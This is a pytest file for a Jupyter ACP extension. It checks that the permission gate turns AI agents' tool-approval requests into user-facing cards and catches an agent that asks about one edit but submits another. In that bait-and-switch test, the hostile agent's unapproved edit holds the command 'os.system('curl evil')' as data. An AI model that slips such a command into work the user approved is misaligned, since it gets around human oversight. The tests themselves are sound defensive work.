"""An agent that asks permission for one of the project's own tools is asked in the notebook's words, once.

The hostile scripted agent sends ``session/request_permission`` in the very shapes real agents send for the
notebook's MCP tools (claude-agent-acp, codex-acp, fast-agent with arguments; gemini-cli and opencode without),
then makes the MCP call. What the user must see: no card for a read under the default policy, one card per change
(the gate's title and the cell's diff, the agent's options), and never a second card for the call it allowed.
"""

from __future__ import annotations

import json
from typing import Any

import nbformat
import pytest

from .conftest import hostile
from .test_gate import audits, run

NEW = 'print(f"PRINTED-{base * 2}")'
EDIT = {"cell_id": "c1", "source": NEW}
READ = {"cell_ids": ["c1"]}

CLAUDE_OPTIONS = [
    {"kind": "allow_always", "name": "Always Allow", "optionId": "allow_always"},
    {"kind": "allow_once", "name": "Allow", "optionId": "allow"},
    {"kind": "reject_once", "name": "Reject", "optionId": "reject"},
]
CODEX_OPTIONS = [
    {"optionId": "approved", "name": "Allow", "kind": "allow_once"},
    {"optionId": "approved-for-session", "name": "Allow for this session", "kind": "allow_always"},
    {"optionId": "approved-always", "name": "Allow and don't ask again", "kind": "allow_always"},
    {"optionId": "cancel", "name": "Cancel", "kind": "reject_once"},
]
FAST_AGENT_OPTIONS = [
    {"optionId": "allow_once", "kind": "allow_once", "name": "Allow Once"},
    {"optionId": "allow_always", "kind": "allow_always", "name": "Always Allow"},
    {"optionId": "reject_once", "kind": "reject_once", "name": "Reject Once"},
    {"optionId": "reject_always", "kind": "reject_always", "name": "Never Allow"},
]
GEMINI_OPTIONS = [
    {"optionId": "proceed_always_server", "name": "Always Allow jupyter", "kind": "allow_always"},
    {"optionId": "proceed_always_tool", "name": "Always Allow client_edit_cell", "kind": "allow_always"},
    {"optionId": "proceed_once", "name": "Allow", "kind": "allow_once"},
    {"optionId": "cancel", "name": "Reject", "kind": "reject_once"},
]
OPENCODE_OPTIONS = [
    {"optionId": "once", "kind": "allow_once", "name": "Allow once"},
    {"optionId": "always", "kind": "allow_always", "name": "Always allow"},
    {"optionId": "reject", "kind": "reject_once", "name": "Reject"},
]


def claude(tool: str, args: dict[str, Any], call_id: str = "toolu_1") -> dict[str, Any]:
    """claude-agent-acp's request (0.23): its title is the MCP name, rawInput the arguments."""
    return {
        "do": "permission",
        "toolCall": {"toolCallId": call_id, "rawInput": args, "title": f"mcp__jupyter__{tool}", "kind": "other"},
        "options": CLAUDE_OPTIONS,
    }


def codex(tool: str, args: dict[str, Any], call_id: str = "call_6") -> dict[str, Any]:
    """codex-acp's MCP approval (0.16): an elicitation-shaped rawInput, the arguments in its _meta."""
    message = f'Allow the jupyter MCP server to run tool "{tool}"?'
    return {
        "do": "permission",
        "toolCall": {
            "toolCallId": call_id,
            "status": "pending",
            "title": "Approve MCP tool call",
            "content": [{"type": "content", "content": {"type": "text", "text": f"{message}\n\nServer: jupyter"}}],
            "rawInput": {
                "server_name": "jupyter",
                "id": f"mcp_tool_call_approval_{call_id}",
                "request": {
                    "mode": "form",
                    "_meta": {
                        "codex_approval_kind": "mcp_tool_call",
                        "persist": ["session", "always"],
                        "tool_params": args,
                    },
                    "message": message,
                    "requested_schema": {"type": "object", "properties": {}},
                },
            },
        },
        "options": CODEX_OPTIONS,
    }


def fast_agent(tool: str, args: dict[str, Any]) -> dict[str, Any]:
    return {
        "do": "permission",
        "toolCall": {
            "toolCallId": "pending",
            "title": f"jupyter/{tool}",
            "kind": "edit",
            "status": "pending",
            "rawInput": args,
        },
        "options": FAST_AGENT_OPTIONS,
    }


def gemini(tool: str) -> dict[str, Any]:
    """gemini-cli's (and qwen-code's) request for an MCP tool: its display name, no arguments at all."""
    return {
        "do": "permission",
        "toolCall": {
            "toolCallId": f"{tool}-1765000000000",
            "status": "pending",
            "title": f"{tool} (jupyter MCP Server)",
            "content": [],
            "locations": [],
            "kind": "other",
        },
        "options": GEMINI_OPTIONS,
    }


def opencode(tool: str) -> dict[str, Any]:
    """opencode's request: the tool's MCP name as title, its permission metadata (empty) as rawInput."""
    return {
        "do": "permission",
        "toolCall": {
            "toolCallId": "call_oc",
            "status": "pending",
            "title": f"jupyter_{tool}",
            "rawInput": {},
            "kind": "other",
        },
        "options": OPENCODE_OPTIONS,
    }


WITH_ARGUMENTS = {"claude": claude, "codex": codex, "fast-agent": fast_agent}


@pytest.fixture
def acp_agents(tmp_path):
    return {"hostile": hostile(tmp_path, tool_channel="mcp-http")}


def notebook(root, name: str = "nb.ipynb") -> str:
    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nb.cells = [nbformat.v4.new_code_cell("base = 21", id="c0"), nbformat.v4.new_code_cell('print("old")', id="c1")]
    (root / name).write_text(nbformat.writes(nb))
    return name


def permission_cards(events: list[dict[str, Any]]) -> list[dict[str, Any]]:
    return [e for e in events if e["type"] == "permission_request"]


def outcome(result: dict[str, Any]) -> dict[str, Any]:
    return result["ok"]["outcome"]


def mcp(tool: str, args: dict[str, Any]) -> dict[str, Any]:
    return {"do": "mcp", "name": tool, "args": args}


def tool_text(result: dict[str, Any]) -> str:
    return result["ok"]["result"]["content"][0]["text"]


async def test_an_agent_asking_to_read_is_answered_for_the_user_without_a_card(api, jp_root_dir):
    s = await api.open(notebook(jp_root_dir), "hostile")
    results, events = await run(
        api,
        s["id"],
        [claude("client_read_cells", READ), mcp("client_read_cells", READ), gemini("client_notebook_outline")],
        answer=lambda ev: "allow_once",
    )
    assert permission_cards(events) == []
    assert outcome(results[0]) == {"outcome": "selected", "optionId": "allow"}
    assert outcome(results[2]) == {"outcome": "selected", "optionId": "proceed_once"}
    assert 'print("old")' in tool_text(results[1])
    answered = [a for a in audits(events) if a["decision"] == "answered"]
    assert [a["action"] for a in answered] == ["client_read_cells", "client_notebook_outline"]
    assert all(a["power"] == "session/request_permission" and "only reads" in a["rule"] for a in answered)


@pytest.mark.parametrize("shape", list(WITH_ARGUMENTS))
async def test_a_change_an_agent_asks_about_is_one_card_in_the_notebooks_words(api, jp_root_dir, shape):
    s = await api.open(notebook(jp_root_dir), "hostile")
    ask = WITH_ARGUMENTS[shape]("client_edit_cell", EDIT)
    results, events = await run(
        api,
        s["id"],
        [mcp("client_read_cells", READ), ask, mcp("client_edit_cell", EDIT)],
        answer=lambda ev: "allow_once",
    )
    [card] = permission_cards(events)
    assert card["source"] == "agent" and card["wording"] == "client"
    assert card["options"] == ask["options"]  # the agent's semantics: its own options, answered by its ids
    shown = card["tool_call"]
    assert shown["title"] == "Edit cell c1" and shown["kind"] == "edit"
    assert shown["rawInput"] == EDIT
    preview = shown["content"][0]["content"]["text"]
    assert '-print("old")' in preview and f"+{NEW}" in preview, preview
    assert shown["_meta"]["jupyter_acp"]["agent_call"] == ask["toolCall"]["toolCallId"]
    once = next(o["optionId"] for o in ask["options"] if o["kind"] == "allow_once")
    assert outcome(results[1]) == {"outcome": "selected", "optionId": once}
    assert "edited cell c1" in tool_text(results[2])
    [edit] = [a for a in audits(events) if a["action"] == "client_edit_cell"]
    assert edit["decision"] == "allowed" and card["request_id"] in edit["rule"], edit


@pytest.mark.parametrize("ask", [gemini("client_edit_cell"), opencode("client_edit_cell")], ids=["gemini", "opencode"])
async def test_a_request_without_arguments_is_answered_and_the_gate_asks_at_the_call(api, jp_root_dir, ask):
    s = await api.open(notebook(jp_root_dir), "hostile")
    results, events = await run(
        api,
        s["id"],
        [mcp("client_read_cells", READ), ask, mcp("client_edit_cell", EDIT)],
        answer=lambda ev: "allow_once",
    )
    once = next(o["optionId"] for o in ask["options"] if o["kind"] == "allow_once")
    assert outcome(results[1]) == {"outcome": "selected", "optionId": once}
    [card] = permission_cards(events)  # the gate's, where the arguments are known
    assert card["source"] == "client" and card["tool_call"]["title"] == "Edit cell c1"
    # asked on the agent's card of this call (the one its question was about)
    assert card["tool_call"]["_meta"]["jupyter_acp"]["agent_call"] == ask["toolCall"]["toolCallId"]
    assert "edited cell c1" in tool_text(results[2])
    [answered] = [a for a in audits(events) if a["decision"] == "answered"]
    assert "asks at the call" in answered["rule"], answered


async def test_an_always_on_the_own_card_is_the_gates_always_too(api, jp_root_dir):
    s = await api.open(notebook(jp_root_dir), "hostile")
    other = {"cell_id": "c1", "source": "print('again')"}
    results, events = await run(
        api,
        s["id"],
        [
            mcp("client_read_cells", READ),
            codex("client_edit_cell", EDIT),
            mcp("client_edit_cell", EDIT),
            mcp("client_edit_cell", other),  # codex does not ask again once allowed for the session
        ],
        answer=lambda ev: "allow_always",
    )
    [card] = permission_cards(events)
    assert outcome(results[1])["optionId"] in ("approved-for-session", "approved-always")
    assert "edited cell c1" in tool_text(results[2]) and "edited cell c1" in tool_text(results[3])
    changed = [e for e in events if e["type"] == "policy_changed"]
    assert changed and changed[-1]["always_allowed"] == ["client_edit_cell"]
    del card


async def test_an_allow_on_the_own_card_covers_only_the_call_it_showed(api, jp_root_dir):
    """The agent asks about one edit and makes another: that one is asked on the gate's own card (and rejected)."""
    s = await api.open(notebook(jp_root_dir), "hostile")
    other = {"cell_id": "c1", "source": "import os; os.system('curl evil')"}
    results, events = await run(
        api,
        s["id"],
        [mcp("client_read_cells", READ), claude("client_edit_cell", EDIT), mcp("client_edit_cell", other)],
        answer=lambda ev: "allow_once" if ev["source"] == "agent" else "reject_once",
    )
    first, second = permission_cards(events)
    assert first["wording"] == "client" and second["source"] == "client"
    assert second["tool_call"]["rawInput"] == other
    assert results[2]["ok"]["result"]["isError"] and "rejected" in tool_text(results[2])


async def test_a_rehearsal_changes_nothing_not_even_what_the_agent_has_read(api, jp_root_dir):
    """The card is found by running the tool up to its gate: an edit of a cell the agent never read makes no card
    (it would be refused), and the rehearsal must not count as that read: the call itself is still refused."""
    s = await api.open(notebook(jp_root_dir), "hostile")
    results, events = await run(
        api,
        s["id"],
        [claude("client_edit_cell", EDIT), mcp("client_edit_cell", EDIT)],
        answer=lambda ev: "allow_once",
    )
    assert permission_cards(events) == []
    assert outcome(results[0])["optionId"] == "allow"
    assert "you have not read this cell yet" in tool_text(results[1])


async def test_a_denied_tool_is_refused_at_the_call_naming_its_rule_not_rejected_for_the_user(
    api, jp_root_dir, jp_serverapp
):
    app = jp_serverapp.web_app.settings["jupyter_acp"]
    app.hub.gate.settings.tool_policies = {"client_edit_cell": "deny"}
    try:
        s = await api.open(notebook(jp_root_dir), "hostile")
        results, events = await run(
            api,
            s["id"],
            [mcp("client_read_cells", READ), codex("client_edit_cell", EDIT), mcp("client_edit_cell", EDIT)],
            answer=lambda ev: "allow_once",
        )
    finally:
        app.hub.gate.settings.tool_policies = {}
    assert permission_cards(events) == []
    assert outcome(results[1])["optionId"] == "approved"
    assert "tool_policies['client_edit_cell'] = 'deny'" in tool_text(results[2])


async def test_a_request_about_another_server_or_names_that_disagree_is_asked_as_the_agent_asks(api, jp_root_dir):
    s = await api.open(notebook(jp_root_dir), "hostile")
    other_server = claude("client_read_cells", READ, "t1")
    other_server["toolCall"]["title"] = "mcp__other__client_read_cells"
    disagree = claude("client_read_cells", READ, "t2")
    disagree["toolCall"]["_meta"] = {"claudeCode": {"toolName": "mcp__jupyter__client_execute_code"}}
    results, events = await run(api, s["id"], [other_server, disagree], answer=lambda ev: "reject_once")
    asked = permission_cards(events)
    assert [c["tool_call"]["toolCallId"] for c in asked] == ["t1", "t2"]
    assert all("wording" not in c for c in asked)  # the agent's own card, as it sent it
    assert all(outcome(r)["optionId"] == "reject" for r in results)


async def test_running_cells_is_asked_with_their_code_and_a_rehearsal_runs_nothing(api, jp_root_dir, jp_fetch):
    path = notebook(jp_root_dir)
    body = {"path": path, "name": path, "type": "notebook", "kernel": {"name": "python3"}}
    await jp_fetch("api", "sessions", method="POST", body=json.dumps(body))
    s = await api.open(path, "hostile")
    run_both = {"cell_ids": ["c0", "c1"]}
    results, events = await run(
        api,
        s["id"],
        [claude("client_execute_cells", run_both), mcp("client_read_cells", {"cell_ids": ["c0"]})],
        answer=lambda ev: "reject_once",
        timeout=60,
    )
    [card] = permission_cards(events)
    assert card["tool_call"]["title"] == "Run 2 cell(s) in the kernel"
    assert "# cell c0\nbase = 21" in card["tool_call"]["content"][0]["content"]["text"]
    assert outcome(results[0])["optionId"] == "reject"
    # nothing ran: c0 still has no execution count
    assert results[1]["ok"]["result"]["structuredContent"]["cells"][0]["execution_count"] is None


@pytest.mark.parametrize(
    "title",
    [
        "mcp__jupyter__client_edit_cell",  # claude-agent-acp, claude-code-acp
        "jupyter_client_edit_cell",  # opencode, mistral-vibe
        "jupyter__client_edit_cell",  # goose
        "jupyter/client_edit_cell",  # fast-agent
        "Tool: jupyter/client_edit_cell",  # codex-acp's tool card
        "client_edit_cell (jupyter MCP Server)",  # gemini-cli, qwen-code
    ],
)
def test_the_forms_agents_name_our_tools_in_are_recognised(title):
    from jupyter_acp.sessions.gate.approvals import OwnToolCall, own_tool_call

    assert own_tool_call({"title": title, "rawInput": EDIT}) == OwnToolCall("client_edit_cell", EDIT)


@pytest.mark.parametrize(
    "tool_call",
    [
        {"title": "Run mcp__jupyter__client_edit_cell for me"},  # a mention is no name
        {"title": "mcp__other__client_edit_cell"},  # another server's tool
        {"title": "mcp__jupyter__edit_cell"},  # not one of ours (they all start client_)
        {"title": "jupyter_client_edit_cell", "_meta": {"claudeCode": {"toolName": "mcp__jupyter__client_move_cell"}}},
        {
            "title": "x",
            "rawInput": {
                "server_name": "other",
                "request": {"message": 'Allow the jupyter MCP server to run tool "client_edit_cell"?'},
            },
        },
    ],
)
def test_what_only_looks_like_our_tools_is_not_recognised(tool_call):
    from jupyter_acp.sessions.gate.approvals import own_tool_call

    assert own_tool_call(tool_call) is None


def test_the_arguments_come_from_where_each_agent_puts_them():
    from jupyter_acp.sessions.gate.approvals import own_tool_call

    assert own_tool_call(codex("client_edit_cell", EDIT)["toolCall"]).arguments == EDIT
    card = {
        "title": "Tool: jupyter/client_edit_cell",
        "rawInput": {"server": "jupyter", "tool": "client_edit_cell", "arguments": EDIT},
    }
    assert own_tool_call(card).arguments == EDIT
    assert own_tool_call(gemini("client_edit_cell")["toolCall"]).arguments is None
    assert own_tool_call({"title": "jupyter_client_edit_cell", "rawInput": "cell c1"}).arguments is None
